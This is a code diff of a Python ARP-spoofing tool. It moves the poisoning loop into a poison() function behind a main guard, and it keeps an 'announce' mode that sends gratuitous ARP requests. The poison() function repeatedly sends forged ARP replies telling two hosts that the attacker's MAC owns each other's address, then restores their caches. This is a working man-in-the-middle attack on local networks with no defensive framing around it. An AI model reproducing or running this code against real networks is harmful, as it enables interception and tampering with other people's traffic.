@@ -22,14 +22,18 @@ def mac_of(address: str) -> bytes:
     raise SystemExit(f"{address} has no hardware address")
 
 
-raw, mine = link(), own_mac()
-if sys.argv[1] == "announce":
-    raw.send(arp(1, (mine, sys.argv[2]), (bytes(6), sys.argv[2])))
-else:
-    a, b = sys.argv[2], sys.argv[3]
+def poison(a: str, b: str, seconds: float) -> None:
+    raw, mine = link(), own_mac()
     known = {a: mac_of(a), b: mac_of(b)}
-    for _ in Ticker(2, float(sys.argv[4])):
+    for _ in Ticker(2, seconds):
         raw.send(arp(2, (mine, b), (known[a], a)))
         raw.send(arp(2, (mine, a), (known[b], b)))
     raw.send(arp(2, (known[b], b), (known[a], a)))
     raw.send(arp(2, (known[a], a), (known[b], b)))
+
+
+if __name__ == "__main__":
+    if sys.argv[1] == "announce":
+        link().send(arp(1, (own_mac(), sys.argv[2]), (bytes(6), sys.argv[2])))
+    else:
+        poison(sys.argv[2], sys.argv[3], float(sys.argv[4]))
